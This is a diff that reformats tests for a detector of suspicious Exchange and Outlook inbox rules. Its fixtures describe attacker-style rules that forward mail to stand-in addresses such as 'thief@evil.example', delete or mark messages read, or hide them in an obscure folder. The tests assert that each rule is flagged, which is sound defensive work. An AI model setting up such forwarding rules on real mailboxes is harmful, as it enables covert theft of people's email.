@@ -6,11 +6,23 @@ import { inboxRules } from './report.js';
 import { isMeaninglessName, isObscureFolder } from './rules.js';
 
 test('New-InboxRule forwarding outside, deleting and marking read is flagged with each finding', async () => {
-  const rule = exchangeAdmin('New-InboxRule', { Name: 'x', ForwardTo: 'thief@evil.example', DeleteMessage: 'True', MarkAsRead: 'True', MoveToFolder: 'RSS Feeds' });
+  const rule = exchangeAdmin('New-InboxRule', {
+    Name: 'x',
+    ForwardTo: 'thief@evil.example',
+    DeleteMessage: 'True',
+    MarkAsRead: 'True',
+    MoveToFolder: 'RSS Feeds',
+  });
   const [row] = (await runOver(inboxRules, [rule])).rows;
   assert.equal(row?.id, rule.id);
   assert.equal(row?.external, true);
-  for (const f of ['forwards outside the organization to thief@evil.example', 'deletes messages', 'marks messages as read', 'moves messages to RSS Feeds', 'meaningless rule name "x"']) {
+  for (const f of [
+    'forwards outside the organization to thief@evil.example',
+    'deletes messages',
+    'marks messages as read',
+    'moves messages to RSS Feeds',
+    'meaningless rule name "x"',
+  ]) {
     assert.ok(String(row?.findings).includes(f), f);
   }
 });
@@ -31,7 +43,11 @@ test('the registered tenant domain counts as inside', async () => {
 });
 
 test('Set-Mailbox forwarding outside is reported; one that clears forwarding is not', async () => {
-  const set = exchangeAdmin('Set-Mailbox', { Identity: 'megan', ForwardingSmtpAddress: 'smtp:drop@gmail.com', DeliverToMailboxAndForward: 'False' });
+  const set = exchangeAdmin('Set-Mailbox', {
+    Identity: 'megan',
+    ForwardingSmtpAddress: 'smtp:drop@gmail.com',
+    DeliverToMailboxAndForward: 'False',
+  });
   const cleared = exchangeAdmin('Set-Mailbox', { Identity: 'megan', ForwardingAddress: '' });
   const nulled = exchangeAdmin('Set-Mailbox', { Identity: 'megan', ForwardingSmtpAddress: '$null' });
   const result = await runOver(inboxRules, [set, cleared, nulled]);
@@ -41,7 +57,14 @@ test('Set-Mailbox forwarding outside is reported; one that clears forwarding is 
 
 test("Outlook's UpdateInboxRules: RuleActions forwarding outside is found", async () => {
   const rule = mailboxItem('UpdateInboxRules', {
-    OperationProperties: nv({ RuleOperation: 'AddMailboxRule', RuleName: 'Sync', RuleActions: JSON.stringify([{ ActionType: 'Forward', Recipients: ['x@evil.example'] }, { ActionType: 'Delete' }]) }),
+    OperationProperties: nv({
+      RuleOperation: 'AddMailboxRule',
+      RuleName: 'Sync',
+      RuleActions: JSON.stringify([
+        { ActionType: 'Forward', Recipients: ['x@evil.example'] },
+        { ActionType: 'Delete' },
+      ]),
+    }),
   });
   const [row] = (await runOver(inboxRules, [rule])).rows;
   assert.match(String(row?.findings), /forwards outside.*x@evil\.example; deletes messages/);
